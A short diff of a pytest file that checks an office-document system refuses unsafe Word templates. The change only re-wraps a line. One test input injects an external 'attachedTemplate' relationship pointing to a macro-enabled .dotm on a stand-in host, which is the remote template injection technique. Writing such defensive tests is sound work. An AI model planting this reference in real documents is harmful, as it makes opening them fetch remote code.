@@ -124,7 +124,8 @@ def test_a_document_template_that_lost_a_style_is_refused_and_mending_it_ends_th
 @pytest.mark.parametrize(("part", "old", "new", "cause"), [
     ("word/_rels/document.xml.rels", "</Relationships>",
      '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-     'attachedTemplate" Target="http://contoh.test/x.dotm" TargetMode="External"/></Relationships>', "K412: Templat Lembar Disposisi.docx"),
+     'attachedTemplate" Target="http://contoh.test/x.dotm" TargetMode="External"/></Relationships>',
+     "K412: Templat Lembar Disposisi.docx"),
     ("word/document.xml", "<w:body>", "<w:body", "K405"),
 ], ids=["a template fetched from outside", "damaged markup"])
 def test_a_template_outside_the_limits_is_never_used(kantor: KantorUji, part: str, old: str, new: str,
